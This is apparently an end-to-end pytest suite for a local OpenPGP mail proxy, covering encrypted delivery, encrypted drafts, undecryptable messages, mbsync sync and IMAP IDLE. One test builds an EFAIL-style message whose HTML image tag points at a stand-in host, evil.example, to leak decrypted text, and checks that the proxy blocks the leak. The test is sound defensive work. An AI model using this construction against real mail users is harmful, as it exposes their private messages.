"""Mail flowing encrypted end to end: alice sends through the SMTP proxy, Postfix
delivers to Dovecot (which keeps only ciphertext), bob reads it in clear through
the IMAP proxy with real clients (imaplib, mbsync)."""

from __future__ import annotations

import email.policy
import imaplib
import os
import re
import shutil
import smtplib
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass, replace
from email.message import EmailMessage
from pathlib import Path

import pytest

from localproxy.config import Config, LocalListen, parse_config
from localproxy.crypto.openpgp import default_engine
from localproxy.imap.relay import ImapProxy
from localproxy.imap.view import MessageView
from localproxy.incoming import STATUS_HEADER, IncomingProcessor
from localproxy.keys.store import KeyStore
from localproxy.mime import parse_entity
from localproxy.sandbox.provider import Provider
from localproxy.smtp.server import SmtpHandler, SmtpProxy
from tests.harness.running import ProxyThread

pytestmark = pytest.mark.e2e
ENGINE = default_engine()


def account_config(provider: Provider, user: str, data: Path) -> Config:
    return parse_config(
        {
            "proxy": {"data_dir": str(data)},
            "account": [
                {
                    "name": user,
                    "addresses": [provider.users[user].address],
                    "upstream": {
                        "imap": {
                            "host": provider.hostname,
                            "port": provider.imap_port,
                            "security": "starttls",
                            "ca_file": str(provider.ca_file),
                        },
                        "smtp": {
                            "host": provider.hostname,
                            "port": provider.submission_port,
                            "security": "starttls",
                            "ca_file": str(provider.ca_file),
                        },
                    },
                }
            ],
        }
    )


@dataclass
class Person:
    name: str
    config: Config
    store: KeyStore
    imap: ProxyThread
    smtp: ProxyThread
    events: list[tuple[str, dict]]

    @property
    def fingerprint(self) -> str:
        return self.store.own_keys(self.name)[0][0].fingerprint


def start_person(provider: Provider, name: str, tmp_path: Path) -> Person:
    config = account_config(provider, name, tmp_path / name)
    account = config.accounts[0]
    store = KeyStore(config.proxy.data_dir)
    store.generate(name, account.addresses)
    events: list[tuple[str, dict]] = []
    sink = lambda kind, data: events.append((kind, data))  # noqa: E731
    incoming = IncomingProcessor(account, config, store, ENGINE, on_event=sink)
    listen_anywhere = replace(account, local=LocalListen(imap_port=0, smtp_port=0))
    imap = ImapProxy(
        listen_anywhere, incoming.transform, append_transformer=incoming.encrypt_for_self
    )
    handler = SmtpHandler(account, config, store, ENGINE, None, on_event=sink)
    imap_thread = ProxyThread(imap).__enter__()
    smtp_thread = ProxyThread(SmtpProxy(handler, host="127.0.0.1", port=0)).__enter__()
    return Person(name, config, store, imap_thread, smtp_thread, events)


@pytest.fixture
def people(clean_provider: Provider, tmp_path: Path) -> Iterator[dict[str, Person]]:
    started = {name: start_person(clean_provider, name, tmp_path) for name in ("alice", "bob")}
    # alice knows bob's key; bob will learn alice's from her Autocrypt header.
    bob_public = started["bob"].store.export_public([started["bob"].fingerprint])
    started["alice"].store.import_keys(bob_public, "import:bob.asc")
    yield started
    for person in started.values():
        person.imap.__exit__()
        person.smtp.__exit__()
        person.store.close()


def letter(subject: str = "Plans for Friday", body: str = "Meet at the usual place.\n") -> bytes:
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = "Alice <alice@example.org>", "bob@example.org", subject
    msg.set_content(body)
    msg.add_attachment(
        "Grüße, das ist ein Anhang.\n".encode(),
        maintype="text",
        subtype="plain",
        filename="anhang.txt",
    )
    return msg.as_bytes(policy=email.policy.SMTP)


def send(provider: Provider, person: Person, raw: bytes, to: list[str]) -> None:
    user = provider.users[person.name]
    with smtplib.SMTP("127.0.0.1", person.smtp.port, timeout=30) as smtp:
        smtp.login(user.login, user.password)
        smtp.sendmail(user.address, to, raw)


def imap_login(provider: Provider, person: Person) -> imaplib.IMAP4:
    conn = imaplib.IMAP4("127.0.0.1", person.imap.port, timeout=30)
    user = provider.users[person.name]
    conn.login(user.login, user.password)
    return conn


def fetch(conn: imaplib.IMAP4, uid: bytes, items: str) -> list:
    typ, data = conn.uid("FETCH", uid, items)
    assert typ == "OK", data
    return data


def test_alice_to_bob_is_ciphertext_at_the_provider_and_plaintext_through_the_proxy(
    clean_provider, people
):
    raw = letter()
    send(clean_provider, people["alice"], raw, ["bob@example.org"])
    (stored,) = clean_provider.wait_for_messages("bob", 1)
    assert b"Meet at the usual place" not in stored and b"Plans for Friday" not in stored
    assert parse_entity(stored).content_type == "multipart/encrypted"

    conn = imap_login(clean_provider, people["bob"])
    conn.select("INBOX")
    uid = conn.uid("SEARCH", "ALL")[1][0].split()[-1]
    data = fetch(conn, uid, "(UID RFC822.SIZE ENVELOPE BODY.PEEK[])")
    view = data[0][1]
    header = parse_entity(view)
    assert header.get("Subject").value == "Plans for Friday", "protected header restored"
    assert b"Meet at the usual place." in view
    status = header.get(STATUS_HEADER).value
    assert status.startswith("decrypted; key=")
    assert f"signature=valid; signer={people['alice'].fingerprint}" in status
    assert int(re.search(rb"RFC822.SIZE (\d+)", data[0][0]).group(1)) == len(view)
    assert b'"Plans for Friday"' in data[0][0], "ENVELOPE carries the real subject"
    # The view is the same whichever way it is asked for.
    assert MessageView(view).rfc822_size() == len(view)
    chunks = b""
    while len(chunks) < len(view):
        part = fetch(conn, uid, f"(UID BODY.PEEK[]<{len(chunks)}.1000>)")[0][1]
        assert part
        chunks += part
    assert chunks == view
    text = fetch(conn, uid, "(BODY.PEEK[1])")[0][1]
    assert text.strip() == b"Meet at the usual place."
    conn.logout()
    # bob learned alice's key from her Autocrypt header, and counted the work.
    (learned,) = [c for c in people["bob"].store.certs() if c.source == "autocrypt"]
    assert learned.fingerprint == people["alice"].fingerprint
    kinds = [k for k, _ in people["bob"].events]
    assert "received-decrypted" in kinds and "received-verified" in kinds


def test_drafts_are_stored_encrypted_and_read_back_in_clear(clean_provider, people):
    conn = imap_login(clean_provider, people["bob"])
    conn.list()  # the relay learns which mailbox is \\Drafts
    draft = letter(subject="Unfinished thoughts", body="Draft text, not sent.\n")
    typ, data = conn.append("Drafts", r"(\Draft)", None, draft)
    assert typ == "OK", data
    (stored,) = clean_provider.stored_messages("bob", "Drafts")
    assert b"Draft text, not sent." not in stored and b"Unfinished" not in stored
    conn.select("Drafts")
    uid = conn.uid("SEARCH", "ALL")[1][0].split()[-1]
    data = fetch(conn, uid, "(FLAGS BODY.PEEK[])")
    assert b"\\Draft" in data[0][0]
    view = data[0][1]
    assert parse_entity(view).get("Subject").value == "Unfinished thoughts"
    assert b"Draft text, not sent." in view
    conn.logout()


def test_message_for_another_key_is_served_as_stored_with_the_reason(clean_provider, people):
    stranger = ENGINE.generate_key(["Stranger <stranger@example.net>"])
    armored = ENGINE.encrypt(
        b"Content-Type: text/plain\r\n\r\nnot for bob\r\n", [ENGINE.public_only(stranger.data)]
    )
    raw = (
        b"From: stranger@example.net\r\nTo: bob@example.org\r\nSubject: wrong key\r\n"
        b"MIME-Version: 1.0\r\nContent-Type: multipart/encrypted; "
        b'protocol="application/pgp-encrypted"; boundary=b\r\n\r\n--b\r\n'
        b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--b\r\n"
        b"Content-Type: application/octet-stream\r\n\r\n"
        + armored.replace(b"\n", b"\r\n")
        + b"\r\n--b--\r\n"
    )
    clean_provider.append("bob", raw)
    conn = imap_login(clean_provider, people["bob"])
    conn.select("INBOX")
    uid = conn.uid("SEARCH", "ALL")[1][0].split()[-1]
    view = fetch(conn, uid, "(BODY.PEEK[])")[0][1]
    status = parse_entity(view).get(STATUS_HEADER).value
    assert status.startswith('not-decrypted; reason="')
    assert view.endswith(raw.split(b"\r\n", 1)[1].split(b"\r\n\r\n", 1)[1]), "body unaltered"
    conn.logout()
    assert "received-failed" in [k for k, _ in people["bob"].events]


def test_efail_style_message_is_not_spliced(clean_provider, people):
    armored = ENGINE.encrypt(
        b"Content-Type: text/plain\r\n\r\nsecret for bob\r\n",
        [people["alice"].store.export_public([people["bob"].fingerprint])],
    )
    raw = (
        b"From: mallory@example.net\r\nTo: bob@example.org\r\nSubject: click\r\n"
        b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\n"
        b'Content-Type: text/html\r\n\r\n<img src="http://evil.example/?\r\n--m\r\n'
        b"Content-Type: application/octet-stream\r\n\r\n"
        + armored.replace(b"\n", b"\r\n")
        + b'\r\n--m\r\nContent-Type: text/html\r\n\r\n">\r\n--m--\r\n'
    )
    clean_provider.append("bob", raw)
    conn = imap_login(clean_provider, people["bob"])
    conn.select("INBOX")
    uid = conn.uid("SEARCH", "ALL")[1][0].split()[-1]
    view = fetch(conn, uid, "(BODY.PEEK[])")[0][1]
    assert b"secret for bob" not in view
    assert view.endswith(raw.split(b"\r\n\r\n", 1)[1])
    conn.logout()


def test_mbsync_pulls_decrypted_mail_and_pushes_an_encrypted_draft(
    clean_provider, people, tmp_path
):
    if shutil.which("mbsync") is None:
        pytest.skip("mbsync not installed")
    send(clean_provider, people["alice"], letter(), ["bob@example.org"])
    clean_provider.wait_for_messages("bob", 1)
    user = clean_provider.users["bob"]
    maildir = tmp_path / "mail"
    (maildir / "Drafts" / "cur").mkdir(parents=True)
    for sub in ("new", "tmp"):
        (maildir / "Drafts" / sub).mkdir()
    (maildir / "Drafts" / "cur" / "1.local:2,D").write_bytes(
        letter(subject="Local draft", body="written offline\n").replace(b"\r\n", b"\n")
    )
    config = tmp_path / "mbsyncrc"
    config.write_text(f"""\
IMAPAccount proxy
Host 127.0.0.1
Port {people["bob"].imap.port}
User {user.login}
Pass {user.password}
SSLType None
AuthMechs LOGIN

IMAPStore remote
Account proxy

MaildirStore local
Path {maildir}/
Inbox {maildir}/INBOX

Channel sync
Far :remote:
Near :local:
Patterns INBOX Drafts
Create Both
Sync All
SyncState *
""")
    done = subprocess.run(
        ["mbsync", "-c", str(config), "-a"],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "HOME": str(tmp_path)},
    )
    assert done.returncode == 0, done.stdout + done.stderr
    (pulled,) = [f.read_bytes() for f in (maildir / "INBOX").glob("*/*")]
    assert b"Meet at the usual place." in pulled and b"Subject: Plans for Friday" in pulled
    drafts = clean_provider.stored_messages("bob", "Drafts")
    assert len(drafts) == 1 and b"written offline" not in drafts[0]
    assert parse_entity(drafts[0]).content_type == "multipart/encrypted"


def test_idle_through_the_proxy_sees_new_encrypted_mail(clean_provider, people):
    conn = imap_login(clean_provider, people["bob"])
    conn.select("INBOX")
    tag = conn._new_tag()
    conn.send(tag + b" IDLE\r\n")
    assert conn.readline().startswith(b"+")
    send(clean_provider, people["alice"], letter(), ["bob@example.org"])
    line = conn.readline()
    while b"EXISTS" not in line:
        line = conn.readline()
    conn.send(b"DONE\r\n")
    while not conn.readline().startswith(tag):
        pass
    conn.logout()
